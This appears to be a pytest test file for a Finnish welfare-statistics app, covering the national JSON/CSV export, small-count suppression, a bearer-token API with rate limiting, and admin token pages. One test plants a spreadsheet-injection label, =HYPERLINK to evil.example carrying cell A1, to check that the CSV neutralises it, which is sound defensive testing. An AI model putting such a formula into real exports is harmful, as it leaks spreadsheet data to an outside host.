"""The national export (JSON against its schema, CSV), the statistics API with tokens, and the token pages."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timezone
from pathlib import Path

import jsonschema
import pytest
import sqlalchemy as sa
from helpers import ROLES, add_report, code_confirmed, csrf_token, login, suggested_by_reporter

from app.codes import AuditAction, CompilationAction, Nature, Phenomenon
from app.config import ROOT
from app.extensions import db
from app.models import ApiToken, AuditEntry, Municipality, Theme
from app.workflow.admin import api_tokens
from app.workflow.compilations import operations as compilations
from app.workflow.compilations.periods import Period
from app.workflow.welfare import national_export

PERIOD = Period(2026, 1)
SCHEMA = json.loads((ROOT / "docs" / "national-export.schema.json").read_text(encoding="utf-8"))


def validate(document: dict) -> None:
    jsonschema.validate(document, SCHEMA, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)


@pytest.fixture
def published(org, database_state):  # type: ignore[no-untyped-def]
    """2026-H1 published with three reports (Kuopio, Varkaus + Siilinjärvi, whole county); 2026-H2 a draft.

    Built once and put back for the later tests (see DatabaseState.replay).
    """
    return database_state.replay("test_national_export.published", lambda: _published(org))


def _published(org):  # type: ignore[no-untyped-def]
    themes = {t.code: t for t in db.session.scalars(sa.select(Theme))}
    siilinjarvi = db.session.scalar(sa.select(Municipality).where(Municipality.name == "Siilinjärvi"))

    def file(unit, month, **fields):  # type: ignore[no-untyped-def]
        return add_report(unit, now=datetime(2026, month, 1, 10, tzinfo=timezone.utc),
                          **{"nature": Nature.NEGATIVE, "phenomenon": Phenomenon.SOCIAL_PROBLEMS, **fields})

    code_confirmed(file(org["unit"], 2, themes=[themes["housing"], themes["income"]]),
                   "homelessness", "economic_situation")
    code_confirmed(file(org["other_unit"], 3, themes=[themes["substance_use_and_mental_health"]],
                        municipalities=[db.session.scalar(sa.select(Municipality).where(Municipality.name == "Varkaus")),
                                        siilinjarvi]),
                   "mental_health", "substances_and_addictions")
    # the reporter's pick, never confirmed: it counts for nothing
    file(org["other_unit"], 4, whole_county=True, nature=Nature.POSITIVE, phenomenon=Phenomenon.CLIENT_WORK,
         national_phenomena=suggested_by_reporter("homelessness"))
    compilation = compilations.open_compilation(PERIOD, org["working_group"])
    compilations.perform(CompilationAction.SEND_FOR_REVIEW, compilation, org["working_group"])
    compilations.perform(CompilationAction.APPROVE, compilation, org["review_body"])
    compilations.open_compilation(Period(2026, 2), org["working_group"])
    db.session.commit()
    return compilation


def test_export_counts_with_stable_codes_and_matches_the_schema(app_ctx, published):
    export = national_export.build_export(PERIOD, "13", "Pohjois-Savon hyvinvointialue")
    validate(export)
    assert export["county"] == {"code": "13", "name": "Pohjois-Savon hyvinvointialue"}
    assert export["period"] == {"code": "2026-H1", "first_day": "2026-01-01", "last_day": "2026-06-30"}
    # the county-wide row hides too: the complement that keeps three hidden 1s from being worked out
    assert export["reports"] == 3 and export["whole_county_reports"] is None
    counts = {dimension: {r["code"]: r["count"] for r in rows} for dimension, rows in export["counts"].items()}
    assert list(counts["national_phenomenon"])[:4] == ["homelessness", "mental_health", "substances_and_addictions",
                                                       "economic_situation"]
    assert counts["national_phenomenon"]["homelessness"] == 1 and counts["national_phenomenon"]["mental_health"] == 1
    assert counts["national_phenomenon"]["none"] == 1
    assert counts["theme"]["housing"] == 1 and counts["theme"]["none"] == 1
    assert counts["nature"] == {"positive": 1, "negative": 2, "other": 0}
    # a municipality's count of 1 to 4 is hidden (null, suppressed) and so is its complement
    places = {r["code"]: r for r in export["counts"]["municipality"]}
    for code in ("297", "915", "749"):
        assert places[code]["count"] is None and places[code]["suppressed"] is True
    assert places["091"]["count"] == 0 if "091" in places else True
    assert "county" not in counts["municipality"] and export["disclosure"] == {"threshold": 5}
    assert export["municipalities"] == []  # under 5 reports each: no part of their own


def test_the_schema_refuses_what_it_should(app_ctx, published):
    export = national_export.build_export(PERIOD, "13", "Pohjois-Savon hyvinvointialue")
    for broken in (
        {**export, "reports": -1},
        {**export, "county": {"code": "Pohjois-Savo", "name": "x"}},
        {**export, "counts": {**export["counts"], "nature": [{"code": "neutral", "label": "x", "count": 1}]}},
        {**export, "municipalities": [{"code": "Kuopio", "name": "Kuopio", "reports": 5, "own_reports": 5,
                                       "counts": {}}]},
        {**export, "extra": 1},
    ):
        with pytest.raises(jsonschema.ValidationError):
            validate(broken)


def test_csv_carries_the_same_counts(app_ctx, published):
    export = national_export.build_export(PERIOD, "13", "Pohjois-Savon hyvinvointialue")
    data = national_export.to_csv(export)
    assert not data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert list(rows[0]) == list(national_export.CSV_COLUMNS)
    county = {(r["dimension"], r["code"]): int(r["count"]) if r["count"] else None
              for r in rows if not r["municipality_code"]}
    assert county[("total", "reports")] == 3 and county[("total", "whole_county_reports")] is None
    assert county[("national_phenomenon", "homelessness")] == 1
    assert county[("municipality", "915")] is None  # hidden: an empty cell, never the small number
    assert not [r for r in rows if r["municipality_code"]]
    assert {r["period"] for r in rows} == {"2026-H1"} and {r["county_code"] for r in rows} == {"13"}
    assert len(rows) == len(national_export.csv_rows(export))


def test_csv_labels_that_a_spreadsheet_would_run_are_text_and_codes_stay_numbers(app_ctx, org, create_report):
    """A county's own theme may be named anything; the CSV guards it, the JSON carries it as it is."""
    own = Theme(code="own_theme", label_fi='=HYPERLINK("http://evil.example/?d="&A1;"Avaa")', label_en="Own")
    db.session.add(own)
    create_report(org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS, themes=[own],
                  now=datetime(2026, 2, 1, 10, tzinfo=timezone.utc))
    compilation = compilations.open_compilation(PERIOD, org["working_group"])
    compilations.perform(CompilationAction.SEND_FOR_REVIEW, compilation, org["working_group"])
    compilations.perform(CompilationAction.APPROVE, compilation, org["review_body"])
    db.session.commit()
    export = national_export.build_export(PERIOD, "13", "Pohjois-Savon hyvinvointialue")

    rows = list(csv.DictReader(io.StringIO(national_export.to_csv(export).decode("utf-8"))))
    theme = next(r for r in rows if r["dimension"] == "theme" and r["code"] == "own_theme" and not r["municipality_code"])
    assert theme["label"] == "'" + own.label_fi and theme["count"] == "1"
    assert {r["format_version"] for r in rows} == {"3"} and {r["county_code"] for r in rows} == {"13"}
    assert all(r["count"].isdigit() or r["count"] == "" for r in rows)
    assert {r["municipality_code"] for r in rows} == {""}  # one report: no municipality has a part
    assert all(r["code"].isdigit() for r in rows if r["dimension"] == "municipality" and r["code"] != "none")
    assert not [r for r in rows if any(value.startswith(("=", "@", "+", "-")) for value in r.values())]
    document = json.loads(national_export.to_json(export))
    assert next(c for c in document["counts"]["theme"] if c["code"] == "own_theme")["label"] == own.label_fi


def test_only_published_half_years_have_an_export(app_ctx, published):
    for period in (Period(2026, 2), Period(2025, 2)):
        with pytest.raises(national_export.NotPublished):
            national_export.build_export(period, "13", "x")
    assert national_export.published_periods() == ["2026-H1"]


def make_token(org, name: str = "THL") -> str:  # type: ignore[no-untyped-def]
    _token, secret = api_tokens.create_token(name, org["admin"])
    db.session.commit()
    return secret


def test_statistics_api(app, app_ctx, org, published):
    client = app.test_client()
    secret = make_token(org)
    url = "/api/v1/statistics?period=2026-H1"
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {secret}"},
                    {"Authorization": "Bearer"}):
        response = client.get(url, headers=headers)
        assert response.status_code == 401, headers
        assert response.headers["WWW-Authenticate"].startswith("Bearer") and "Authorization" in response.json["message"]
    auth = {"Authorization": f"Bearer {secret}"}
    response = client.get(url, headers=auth)
    assert response.status_code == 200 and response.mimetype == "application/json"
    validate(response.json)
    assert response.json["reports"] == 3
    response = client.get(url + "&format=csv", headers=auth)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.decode("utf-8").startswith("format_version,county_code,period,")
    missing = client.get("/api/v1/statistics?period=2026-H2", headers=auth)
    assert missing.status_code == 404 and missing.json["periods"] == ["2026-H1"]
    assert client.get("/api/v1/statistics?period=kevät", headers=auth).status_code == 400
    assert client.get(url + "&format=xml", headers=auth).status_code == 400

    db.session.expire_all()
    token = db.session.scalar(sa.select(ApiToken))
    assert token.last_used_at is not None and token.token_hash != secret and secret not in token.prefix + token.name
    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORTED)
                                 .order_by(AuditEntry.id)).all()
    assert [(e.details["format"], e.target, e.actor_id) for e in entries] == [
        ("json", f"api_token THL ({token.prefix}…)", None), ("csv", f"api_token THL ({token.prefix}…)", None)]

    api_tokens.revoke_token(token, org["admin"])
    db.session.commit()
    assert client.get(url, headers=auth).status_code == 401


def test_wrong_tokens_are_limited_per_client(app, app_ctx, org, published, monkeypatch):
    monkeypatch.setitem(app.config, "API_TOKEN_FAILURE_LIMIT", "3 per 15 minutes")
    secret = make_token(org)
    url = "/api/v1/statistics?period=2026-H1"
    guesser = app.test_client()
    guesser.environ_base["REMOTE_ADDR"] = "198.51.100.7"
    assert [guesser.get(url, headers={"Authorization": f"Bearer guess{n}"}).status_code for n in range(4)] == \
        [401, 401, 401, 429]
    refused = guesser.get(url, headers={"Authorization": f"Bearer {secret}"})
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 14 * 60, \
        "past the limit even the right token waits, so the guesser cannot tell it was right"
    assert "minuutin kuluttua" in refused.json["message"]
    other = app.test_client()
    other.environ_base["REMOTE_ADDR"] = "198.51.100.8"
    for _ in range(5):  # the right token from another client is never limited
        assert other.get(url, headers={"Authorization": f"Bearer {secret}"}).status_code == 200


@pytest.mark.parametrize("role", ROLES)
def test_token_pages_are_for_the_administrator(app, org, role):
    client = app.test_client()
    login(client, org[role].email)
    assert client.get("/admin/api-tokens").status_code == (200 if role == "admin" else 403), role


def test_administrator_creates_a_token_shown_once_and_revokes_it(app, org, published):
    client = app.test_client()
    login(client, org["admin"].email)
    token_csrf = csrf_token(client, "/admin/api-tokens")
    refused = client.post("/admin/api-tokens", data={"csrf_token": token_csrf, "name": "  "})
    assert refused.status_code == 400 and "Kirjoita avaimelle nimi" in refused.get_data(as_text=True)
    created = client.post("/admin/api-tokens", data={"csrf_token": token_csrf, "name": "THL:n koonti"})
    assert created.status_code == 201
    secret = re.search(r'<code class="token-secret">(sora_[A-Za-z0-9_-]+)</code>', created.get_data(as_text=True)).group(1)
    assert secret not in client.get("/admin/api-tokens").get_data(as_text=True)
    assert client.get("/api/v1/statistics?period=2026-H1", headers={"Authorization": f"Bearer {secret}"}).status_code == 200

    token = db.session.scalar(sa.select(ApiToken))
    assert token.name == "THL:n koonti" and secret not in (token.token_hash, token.prefix)
    token_id = token.id
    revoked = client.post(f"/admin/api-tokens/{token_id}/revoke", data={"csrf_token": token_csrf})
    assert revoked.status_code == 302
    assert "Peruttu" in client.get("/admin/api-tokens").get_data(as_text=True)
    assert client.get("/api/v1/statistics?period=2026-H1", headers={"Authorization": f"Bearer {secret}"}).status_code == 401
    assert client.post(f"/admin/api-tokens/{token_id}/revoke", data={"csrf_token": token_csrf}).status_code == 409
    assert client.post("/admin/api-tokens/999/revoke", data={"csrf_token": token_csrf}).status_code == 404

    actions = db.session.scalars(sa.select(AuditEntry.action).where(AuditEntry.actor_id == org["admin"].id)
                                 .where(AuditEntry.action != AuditAction.LOGIN).order_by(AuditEntry.id)).all()
    assert actions == [AuditAction.API_TOKEN_CREATED, AuditAction.API_TOKEN_REVOKED]
    log = client.get("/admin/audit").get_data(as_text=True)
    assert "API-avain luotu" in log and "API-avain THL:n koonti" in log and secret not in log


@pytest.mark.parametrize("role", ["coordinator", "admin", "working_group", "employee"])
def test_national_export_download(app, org, published, role):
    client = app.test_client()
    login(client, org[role].email)
    response = client.get("/welfare/national/2026-H1.json")
    assert response.status_code == (200 if role in ("coordinator", "admin") else 403), role
    if response.status_code == 200:
        validate(response.json)
        assert client.get("/welfare/national/2026-H2.json").status_code == 404
        assert client.get("/welfare/national/2026-H1.csv").status_code == 200
        details = db.session.scalars(sa.select(AuditEntry.details)
                                     .where(AuditEntry.action == AuditAction.EXPORTED)).all()
        assert details == [{"what": "national_export", "period": "2026-H1", "format": "json"},
                           {"what": "national_export", "period": "2026-H1", "format": "csv"}]


def test_export_command(app, app_ctx, published, tmp_path: Path):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["national-export", "2026-H1", "--json", str(tmp_path / "v.json"),
                                 "--csv", str(tmp_path / "v.csv")])
    assert result.exit_code == 0, result.output
    validate(json.loads((tmp_path / "v.json").read_text(encoding="utf-8")))
    assert (tmp_path / "v.csv").read_text(encoding="utf-8").startswith("format_version,")
    refused = runner.invoke(args=["national-export", "2026-H2", "--json", str(tmp_path / "x.json")])
    assert refused.exit_code != 0 and "ei ole julkaistu" in refused.output and "2026-H1" in refused.output
    assert not (tmp_path / "x.json").exists()
